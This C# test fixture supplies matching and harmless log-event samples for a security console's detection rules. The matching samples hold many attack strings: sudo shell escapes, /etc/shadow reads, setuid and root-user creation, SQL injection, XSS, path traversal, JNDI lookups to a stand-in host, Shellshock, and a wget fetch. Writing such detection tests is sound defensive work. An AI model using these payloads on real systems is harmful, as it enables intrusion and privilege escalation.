namespace SocConsole.Tests.Detection.Rules;

/// <summary>Events that a rule must match, and events that it must leave alone.</summary>
internal sealed record RuleSample(string[] Matching, string[] Harmless);

/// <summary>Samples for every built-in rule by its name; a rule without them fails its test.</summary>
internal static class RuleSamples
{
    private const string Ssh = "event.dataset=sshd; event.category=authentication; source.ip=203.0.113.7; user.name=root; event.action=";
    private const string Sudo = "event.dataset=sudo; event.category=process; user.name=alice; user.effective.name=root; event.action=";
    private const string Command = Sudo + "sudo_command; process.command_line=";
    private const string Web = "event.dataset=apache.access; event.category=web; event.action=http_request; source.ip=203.0.113.7; ";
    private const string Url = Web + "soc.url.decoded=";
    private const string Agent = Web + "user_agent.original=";
    private const string Text = Web + "soc.http.request.header_count=3; soc.http.request.text=";
    private const string Breach = Web + "soc.http.request.header_count=3; soc.http.request.breach=";
    private const string Response = Web + "http.response.body.content=";
    private const string Firefox = Agent + "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

    public static readonly IReadOnlyDictionary<string, RuleSample> ByRule = new Dictionary<string, RuleSample>
    {
        ["ssh_login_failed"] = new([Ssh + "ssh_login_failed"], [Ssh + "ssh_login", "event.dataset=json; event.action=ssh_login_failed"]),
        ["ssh_invalid_user"] = new([Ssh + "ssh_invalid_user"], [Ssh + "ssh_login_failed"]),
        ["ssh_pam_failed"] = new([Ssh + "pam_auth_failed"], [Ssh + "ssh_login_failed", "event.dataset=sudo; event.action=pam_auth_failed"]),
        ["ssh_login_refused"] = new([Ssh + "ssh_not_allowed", Ssh + "ssh_method_refused", Ssh + "ssh_max_attempts"], [Ssh + "ssh_login_failed", Ssh + "pam_auth_failed"]),
        ["ssh_unfinished_login"] = new(
            [Ssh + "ssh_disconnect; event.outcome=failure", Ssh + "ssh_connection_closed; event.outcome=failure"],
            [Ssh + "ssh_disconnect", Ssh + "ssh_connection_closed", Ssh + "ssh_login_failed; event.outcome=failure"]),
        ["ssh_probe"] = new([Ssh + "ssh_no_identification", Ssh + "ssh_protocol_error", Ssh + "ssh_connection_dropped"], [Ssh + "ssh_connection"]),
        ["ssh_login_success"] = new([Ssh + "ssh_login"], [Ssh + "ssh_login_failed"]),
        ["login_failed"] = new(
            ["event.dataset=json; event.action=login_failed; source.ip=203.0.113.7", "event.dataset=pam; event.action=pam_auth_failed; service.name=vsftpd"],
            ["event.dataset=pam; event.action=pam_auth_failed; service.name=sshd", "event.dataset=pam; event.action=pam_auth_failed; service.name=sudo", "event.dataset=sudo; event.action=pam_auth_failed", Ssh + "login_failed", "event.action=login"]),
        ["sudo_not_allowed"] = new([Sudo + "sudo_not_allowed"], [Sudo + "sudo_command"]),
        ["sudo_auth_failed"] = new([Sudo + "sudo_auth_failed"], [Sudo + "sudo_not_allowed"]),
        ["sudo_shell_escape"] = new(
            [Command + "/usr/bin/vi -c ':!/bin/sh' /dev/null", Command + "/usr/bin/find . -exec /bin/sh ;", Command + "/usr/bin/awk BEGIN {system(\"/bin/sh\")}", Command + "/usr/bin/python3 -c import os; os.system(1)", Command + "/usr/bin/env /bin/bash", Command + "/bin/tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh"],
            [Command + "/usr/bin/vi /etc/hosts", Command + "/usr/bin/find /var/log -name *.gz", Command + "/usr/bin/awk {print} /var/log/syslog", Command + "/usr/bin/apt-get update", Command + "/bin/systemctl restart ssh"]),
        ["sudo_sensitive_files"] = new(
            [Command + "/usr/bin/vi /etc/sudoers", Command + "/bin/cat /etc/shadow", Command + "/usr/bin/tee -a /etc/passwd", Command + "/bin/cp /tmp/x /etc/pam.d/sshd"],
            [Command + "/usr/sbin/visudo", Command + "/bin/cat /etc/passwd", Command + "/bin/ls /etc/pam.d/", Command + "/usr/bin/vi /etc/hosts"]),
        ["sudo_setuid"] = new(
            [Command + "/bin/chmod u+s /bin/bash", Command + "/bin/chmod 4755 /tmp/sh", Command + "/sbin/setcap cap_setuid+ep /usr/bin/python3"],
            [Command + "/bin/chmod 0755 /srv/app", Command + "/bin/chmod 755 /srv/app", Command + "/bin/chmod +x /srv/run", Command + "/sbin/setcap cap_net_bind_service=+ep /srv/app"]),
        ["sudo_group_membership"] = new(
            [Command + "/usr/sbin/usermod -aG sudo mallory", Command + "/usr/sbin/adduser mallory sudo", Command + "/usr/bin/gpasswd -a mallory wheel", Command + "/usr/sbin/useradd -o -u 0 -g 0 toor"],
            [Command + "/usr/sbin/usermod -aG video alice", Command + "/usr/sbin/adduser bob", Command + "/usr/sbin/useradd -u 1004 bob"]),
        ["sudo_root_shell"] = new([Command + "/bin/bash", Command + "/bin/su -", Command + "/bin/su"], [Command + "/bin/su postgres", Command + "/bin/bash /srv/backup.sh"]),
        ["web_sql_injection"] = new(
            [Url + "/item?id=1 union all select null,version()", Url + "/login?u=admin' or '1'='1", Url + "/i?id=1;drop table users", Url + "/i?id=1 and sleep(5)", Url + "/i?id=1' and updatexml(1,concat(0x7e,user()),1)#", Agent + "x' OR 1=1-- ", Web + "http.request.body.content=user=admin%27+or+1%3D1--+&pw=x", Url + "/i?user[$ne]=1", Url + "/i?q=/**/union/**/select/**/1,2"],
            [Url + "/blog/the-european-union-selects-a-leader", Url + "/shop?q=rock+and+roll&sort=price", Url + "/o'reilly/books", Url + "/search?q=order by phone", Url + "/docs/select2.js", Firefox]),
        ["web_cross_site_scripting"] = new(
            [Url + "/s?q=<script>alert(1)</script>", Url + "/s?q=\"><img src=x onerror=alert(1)>", Url + "/s?u=javascript:alert(document.cookie)", Web + "http.request.referrer=http://x/%3Csvg/onload=alert(1)%3E", Url + "/s?q=jaVasCript:x".ToLowerInvariant()],
            [Url + "/s?q=1 < 2 and 3 > 2", Url + "/javascript/tutorial", Url + "/shop?online=1&once=2", Url + "/window.png", Firefox]),
        ["web_path_traversal"] = new(
            [Url + "/download?f=../../../../etc/passwd", Url + "/.git/config", Url + "/.env", Web + "url.original=/x?f=..%c0%af..%c0%afetc; soc.url.decoded=/x?f=..", Url + "/?p=php://filter/convert.base64-encode/resource=index", Web + "http.request.body.content=f=..%2f..%2f..%2fetc%2fpasswd"],
            [Url + "/.well-known/acme-challenge/x", Url + "/img/logo.png?v=1..2", Url + "/a/b/c...html", Url + "/search?q=.net", Firefox]),
        ["web_command_injection"] = new(
            [Url + "/ping?host=127.0.0.1;cat /etc/passwd", Url + "/x?q=${jndi:ldap://198.51.100.1/a}", Agent + "() { :;}; /bin/bash -c 'id'", Agent + "${jndi:ldap://198.51.100.1/a}", Url + "/x?c=`whoami`", Url + "/x?c=a|wget http://198.51.100.1/x", Url + "/x?c=$(id)", Url + "/x?cmd=cat /etc/hosts", Url + "/scripts/..%5c/cmd.exe?/c+dir"],
            [Url + "/cats?id=4;type=big", Url + "/fonts?family=open+sans|roboto", Url + "/a?cat=5&id=7&find=x", Agent + "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", Agent + "Mozilla/5.0 (compatible; MSIE 10.0; ARM; Touch; NOKIA; Lumia 920)", Firefox]),
        ["web_scanner_agent"] = new([Agent + "sqlmap/1.8#stable (https://sqlmap.org)", Agent + "Mozilla/5.00 (Nikto/2.5.0)", Agent + "Mozilla/5.0 zgrab/0.x"], [Firefox, Agent + "Mozilla/5.0 (compatible; Googlebot/2.1)"]),
        ["web_php_injection"] = new(
            [Url + "/i?c=<?php system('id'); ?>", Url + "/i?f=php://input", Text + "o:8:\"stdclass\":0:{}", Text + "x=$_post['c']", Text + "auto_prepend_file = /tmp/x"],
            [Url + "/i?q=php+tutorial", Url + "/index.php?id=4", Text + "name=ann&price=4$", Firefox]),
        ["web_php_function"] = new([Url + "/i?c=phpinfo()", Text + "c=base64_decode('x')", Text + "c=array_map ('x')"], [Url + "/i?c=phpinfo", Text + "see also (chapter 4)", Url + "/wiki/set_(mathematics)"]),
        ["web_java_injection"] = new(
            [Text + "x=java.lang.runtime", Text + "x=${jndi:ldap://198.51.100.1/a}", Text + "ro0abqxz", Agent + "${jndi:ldap://198.51.100.1/a}", Url + "/?class.module.classloader.x=1", Text + "x=%{(#a=@ognl.ognlcontext@x)}"],
            [Url + "/java/tutorial", Url + "/search?q=runtime+error", Text + "price=4&currency=$", Firefox]),
        ["web_script_injection"] = new(
            [Url + "/?q={{7*7}}", Text + "__proto__[a]=1", Text + "x=require('child_process').exec('id')", Url + "/?user__password__startswith=a", Text + "x=<%= 7 %>"],
            [Url + "/?q=function+of+the+heart", Url + "/?tpl=a_b", Text + "name=ann {draft}", Firefox]),
        ["web_request_forgery"] = new(
            [Url + "/?u=http://169.254.169.254/latest/meta-data/", Url + "/?u=http://127.0.0.1:22/", Url + "/?u=http://0x7f000001/", Text + "u=gopher://198.51.100.1/x", Url + "/?u=http://2130706433/"],
            [Url + "/?u=http://www.example.com/a", Url + "/?v=1.2.3&n=12", Url + "/?q=localhost4life", Url + "/cover/5?c=1746230055", Firefox]),
        ["web_remote_file_inclusion"] = new([Url + "/?page=http://198.51.100.1/x.txt", Url + "/?page=http://example.com/x.php?"], [Url + "/?page=http://example.com/x", Url + "/?page=home", Firefox]),
        ["web_foreign_address"] = new([Web + "soc.http.request.header_count=3; soc.url.decoded=/?to=https://example.com/"], [Url + "/?to=https://example.com/", Web + "soc.http.request.header_count=3; soc.url.decoded=/?to=home"]),
        ["web_header_injection"] = new(
            [Url + "/?x=a\nset-cookie: a=b", Text + "x=a\nlocation: http://example.com", Text + "x=get /admin http/1.1", Text + "x=a\nrcpt to: <a@example.com>"],
            [Url + "/?x=a set-cookie", Text + "dear ann\nsee you", Url + "/http/1", Firefox]),
        ["web_ldap_injection"] = new([Url + "/?u=admin)(&(objectclass=*)", Text + "u=*)(uid=*"], [Url + "/wiki/set_(mathematics)", Text + "a (b) and (c)", Firefox]),
        ["web_http_violation"] = new(
            [Breach + "body_not_expected", Header("content-type=multipart/unknown"), Header("accept-encoding=xxxx"), Web + "soc.http.request.header_count=3; http.request.method=JEFF", Header("cache-control=a=b")],
            [Web + "http.request.method=JEFF", Header("content-type=application/json;charset=utf-8"), Header("accept-encoding=gzip, deflate, br;q=0.9"), Web + "soc.http.request.header_count=3; http.request.method=GET", Header("cache-control=max-age=0, no-cache"), Breach + "body_without_length"]),
        ["web_http_smuggling"] = new([Breach + "length_and_coding", Breach + "content_length"], [Breach + "missing_host", Firefox]),
        ["web_multipart_evasion"] = new(
            [Text + "content-disposition: form-data;name=\"a=b\"", Text + "content-disposition: form-data;name=\"a\"\ncontent-type: text/plain;charset=utf-7\n"],
            [Text + "content-disposition: form-data;name=\"file\";filename=\"cv.pdf\"", Text + "name=\"a=b\""]),
        ["web_backup_file"] = new([Url + "/site.bak", Url + "/db.sql?x=1", Url + "/key.pem"], [Url + "/old/index.html", Url + "/page?f=x.bak", Url + "/key.html", Url + "/data/migrations/1548957970627_payees.sql", Firefox]),
        ["web_session_fixation"] = new([Url + "/login?phpsessid=abc", Text + "{\"jsessionid\":\"foo\"}", Url + "/?x=document.cookie='a=b; domain=.example.com'"], [Url + "/?inside=1", Url + "/sessions/4", Text + "side=left", Firefox]),
        ["web_file_upload"] = new(
            [Header("x-filename=a.php"), Header("x-file-name=shell.jsp"), Text + "content-disposition: form-data;name=\"f\";filename=\"a.phtml\"\n", Header("x-filename=sess_0123456789abcdef0")],
            [Header("x-filename=cv.pdf"), Text + "content-disposition: form-data;name=\"f\";filename=\"cv.pdf\"\n", Text + "see a.php"]),
        ["web_response_leak"] = new([Response + "You have an error in your SQL syntax near", Response + "java.lang.NullPointerException", Response + "<?php echo 1; ?>"], [Response + "<?xml version='1.0'?><a/>", Response + "<html>Welcome</html>"]),
        ["web_shell_response"] = new([Response + "<html><title>c99shell</title>"], [Response + "c99shell", Response + "<html><title>Welcome</title>"]),
        ["web_command_fragment"] = new(
            [Text + "x=whoami", Text + "x=;ls -la", Text + "x=/???/c?t", Web + "soc.http.request.header_count=3; user_agent.original=cat /etc/passwd", Text + "x=alias a=b"],
            [Url + "/?x=whoami", Text + "x=tell me who i am", Text + "name=head of sales", Web + "soc.http.request.header_count=3; user_agent.original=curl/8.5.0", Web + "soc.http.request.header_count=3; user_agent.original=Mozilla/5.0 (X11; U; id)"]),
        ["web_sql_fragment"] = new(
            [Text + "x=concat(1,2)", Text + "x= or 1=1", Text + "x=is null", Text + "x=order by 4"],
            [Url + "/?x=concat(1,2)", Text + "dear ann, how are you", Text + "{\"name\":\"ann\",\"age\":\"30\"}", Text + "turn left (at the church)"]),
        ["web_markup_fragment"] = new([Text + "x=-->", Text + "x=<b onclick=x>", Text + "x=java script:"], [Text + "a < 4 and b > 5", Text + "condition: good", Url + "/?x=-->"]),
        ["web_not_found"] = new([Web + "http.response.status_code=404"], [Web + "http.response.status_code=200"]),
        ["web_request"] = new([Web + "http.response.status_code=200"], ["event.category=web; event.action=http_error", "event.category=process; event.action=http_request"]),
    }.Concat(WindowsRuleSamples.ByRule).Concat(WindowsAccountRuleSamples.ByRule).Concat(CloudRuleSamples.ByRule).Concat(HostRuleSamples.ByRule).Concat(NetworkRuleSamples.ByRule).ToDictionary();

    // First, because a name with a dash does not end the value before it.
    private static string Header(string pair) => $"http.request.headers.{pair}; {Web}soc.http.request.header_count=3";
}
